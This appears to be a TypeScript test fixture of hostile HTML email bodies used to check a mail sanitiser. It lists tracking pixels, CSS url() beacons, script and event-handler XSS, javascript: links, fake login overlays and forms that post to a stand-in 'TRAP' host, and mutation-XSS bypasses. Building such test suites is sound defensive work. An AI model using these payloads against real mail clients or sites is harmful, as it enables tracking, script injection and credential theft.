/**
 * HTML that tries to fetch something, to run, to leave its frame, or to look like the page: one idea each, made for these
 * tests. TRAP is a server that must never be asked for anything.
 */
export const HOSTILE_MAILS: Readonly<Record<string, string>> = {
  // trackers
  pixel: '<img src="TRAP/pixel.gif" width=1 height=1>',
  'pixel without quotes': '<img src=TRAP/pixel.gif>',
  'pixel in capitals': '<IMG SRC="TRAP/pixel.gif">',
  'pixel with a slash': '<img/src="TRAP/pixel.gif"/>',
  'pixel without a protocol': '<img src="//HOST/pixel.gif">',
  'pixel with entities': '<img src="&#104;ttp&colon;//HOST/pixel.gif">',
  'pixel with line feeds': '<img src="ht\ntp://HOST/pixel.gif">',
  'pixel of two sources': '<img src="cid:none" src="TRAP/pixel.gif">',
  srcset:
    '<img srcset="TRAP/a.gif 1x, TRAP/b.gif 2x" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">',
  picture: '<picture><source srcset="TRAP/a.webp"><img src="TRAP/a.png"></picture>',
  lowsrc: '<img lowsrc="TRAP/a.gif" dynsrc="TRAP/b.gif" longdesc="TRAP/c">',
  'input image': '<input type="image" src="TRAP/a.gif">',
  background: '<table background="TRAP/a.gif"><tr><td background="TRAP/b.gif">x</td></tr></table>',
  'body background': '<body background="TRAP/a.gif">x</body>',
  video: '<video src="TRAP/a.mp4" poster="TRAP/a.png" autoplay></video>',
  audio: '<audio src="TRAP/a.mp3" autoplay><source src="TRAP/b.mp3"></audio>',
  track: '<video><track default src="TRAP/a.vtt"></video>',
  'link stylesheet': '<link rel="stylesheet" href="TRAP/a.css">',
  'link prefetch':
    '<link rel="prefetch" href="TRAP/a"><link rel="dns-prefetch" href="TRAP"><link rel="preconnect" href="TRAP">',
  'link icon': '<link rel="icon" href="TRAP/a.ico">',
  manifest: '<link rel="manifest" href="TRAP/a.json">',
  'read receipt by ping': '<a href="https://x.example/" ping="TRAP/ping">x</a>',
  // styles
  'style element': '<style>body{background:url(TRAP/a.gif)}</style><p>x</p>',
  'style import': '<style>@import "TRAP/a.css";</style>',
  'style font':
    '<style>@font-face{font-family:f;src:url(TRAP/a.woff)}p{font-family:f}</style><p>x</p>',
  'style attribute': '<p style="background:url(TRAP/a.gif)">x</p>',
  'style with escapes': '<p style="background:\\75\\72\\6c(TRAP/a.gif)">x</p>',
  'style with a comment': '<p style="background:u/**/rl(TRAP/a.gif)">x</p>',
  'style image-set': '<p style="background-image:image-set(\'TRAP/a.gif\' 1x)">x</p>',
  'style list': '<ul style="list-style:url(TRAP/a.gif)"><li>x</ul>',
  'style content': '<p style="content:url(TRAP/a.gif)">x</p>',
  'style cursor': '<p style="cursor:url(TRAP/a.cur),auto">x</p>',
  'style behaviour': '<p style="-moz-binding:url(TRAP/a.xml);behavior:url(TRAP/a.htc)">x</p>',
  'style expression': '<p style="width:expression(alert(1))">x</p>',
  'style overlay':
    '<div style="position:fixed;top:0;left:0;width:9999px;height:9999px;z-index:9">Log in</div>',
  'style var': '<p style="--a:url(TRAP/a.gif);background:var(--a)">x</p>',
  // scripts
  script: '<script>fetch("TRAP/a");document.title="owned"</script>',
  'script from elsewhere': '<script src="TRAP/a.js"></script>',
  'script in pieces': '<scr<script>ipt>fetch("TRAP/a")</scr</script>ipt>',
  'script unclosed': '<script>fetch("TRAP/a")',
  onerror: "<img src=x onerror=\"fetch('TRAP/a');top.document.title='owned'\">",
  onload: '<body onload="fetch(\'TRAP/a\')">x</body>',
  'onload of svg': '<svg onload="fetch(\'TRAP/a\')"></svg>',
  onfocus: '<input autofocus onfocus="fetch(\'TRAP/a\')">',
  ontoggle: '<details open ontoggle="fetch(\'TRAP/a\')"><summary>x</summary></details>',
  'on with a slash': '<p/onmouseover="fetch(\'TRAP/a\')"/onclick=alert(1)>x</p>',
  'javascript link': '<a href="javascript:fetch(\'TRAP/a\')" id="go">x</a>',
  'javascript link with a tab': '<a href="java\tscript:fetch(\'TRAP/a\')" id="go">x</a>',
  'javascript link with an entity': '<a href="&#x6a;avascript&colon;fetch(\'TRAP/a\')">x</a>',
  'data link': '<a href="data:text/html,<script>fetch(\'TRAP/a\')</script>">x</a>',
  'vbscript link': '<a href="vbscript:x">x</a>',
  // other pages
  'meta refresh': '<meta http-equiv="refresh" content="0;url=TRAP/a">',
  'meta refresh to javascript': '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  'meta policy':
    '<meta http-equiv="Content-Security-Policy" content="default-src *"><img src="TRAP/a.gif">',
  base: '<base href="TRAP/"><img src="a.gif"><a href="x">x</a>',
  'base target': '<base target="_top"><a href="https://x.example/">x</a>',
  iframe: '<iframe src="TRAP/a"></iframe>',
  'iframe srcdoc': '<iframe srcdoc="<script>fetch(\'TRAP/a\')</script>"></iframe>',
  frameset: '<frameset><frame src="TRAP/a"></frameset>',
  object: '<object data="TRAP/a.swf"><embed src="TRAP/b.swf"></object>',
  applet: '<applet code="a" codebase="TRAP/"></applet>',
  portal: '<portal src="TRAP/a"></portal><fencedframe src="TRAP/b"></fencedframe>',
  // forms
  form: '<form action="TRAP/login"><input name="password"><button autofocus>Log in</button></form>',
  formaction: '<button formaction="TRAP/a" type="submit">x</button>',
  isindex: '<isindex action="TRAP/a" prompt="Password">',
  // other languages inside HTML
  'svg image': '<svg><image href="TRAP/a.png" xlink:href="TRAP/b.png"/></svg>',
  'svg use': '<svg><use href="TRAP/a.svg#x"/></svg>',
  'svg animate':
    '<svg><a><animate attributeName="href" values="javascript:fetch(\'TRAP/a\')"/><text>x</text></a></svg>',
  'svg style': '<svg><style>@import "TRAP/a.css";</style></svg>',
  'svg foreignObject': '<svg><foreignObject><iframe src="TRAP/a"></iframe></foreignObject></svg>',
  'svg in data': '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">',
  math: '<math><maction actiontype="statusline" xlink:href="TRAP/a">x</maction></math>',
  xml: '<?xml-stylesheet href="TRAP/a.css"?><xml><x src="TRAP/b"></x></xml>',
  'conditional comment':
    '<!--[if gte mso 9]><img src="TRAP/a.gif"><![endif]--><!--><img src="TRAP/b.gif">-->',
  template: '<template shadowrootmode="open"><img src="TRAP/a.gif"></template>',
  // what one parser reads in another way than the next
  'mutation by math':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=TRAP/a.gif onerror=alert(1)&gt;">',
  'mutation by svg': '<svg></p><style><a id="</style><img src=TRAP/a.gif onerror=alert(1)>">',
  'mutation by form':
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img src=TRAP/a.gif onerror=alert(1)>">',
  'mutation by noscript': '<noscript><p title="</noscript><img src=TRAP/a.gif onerror=alert(1)>">',
  'mutation by title': '<title><p title="</title><img src=TRAP/a.gif onerror=alert(1)>">',
  'mutation by textarea': '<textarea><p title="</textarea><img src=TRAP/a.gif onerror=alert(1)>">',
  'mutation by xmp': '<xmp><p title="</xmp><img src=TRAP/a.gif onerror=alert(1)>">',
  'mutation by iframe': '<iframe><p title="</iframe><img src=TRAP/a.gif onerror=alert(1)>">',
  'mutation by noembed': '<noembed><p title="</noembed><img src=TRAP/a.gif onerror=alert(1)>">',
  'mutation by select':
    '<select><option><p title="</select><img src=TRAP/a.gif onerror=alert(1)>">',
  'mutation by comment': '<!-- --!><img src=TRAP/a.gif onerror=alert(1)>-->',
  'mutation by cdata': '<svg><![CDATA[</svg><img src=TRAP/a.gif onerror=alert(1)>]]></svg>',
  'mutation by backquote': '<p title="`><img src=TRAP/a.gif onerror=alert(1)>`">x</p>',
  'mutation by attribute': '<p title="&quot;><img src=TRAP/a.gif onerror=alert(1)>">x</p>',
  'mutation by null': '<img \0src="TRAP/a.gif"><scr\0ipt>fetch("TRAP/a")</scr\0ipt>',
  'mutation by plaintext': '<plaintext><img src="TRAP/a.gif">',
  'mutation by nesting': `${'<div>'.repeat(5_000)}<img src="TRAP/a.gif">`,
};
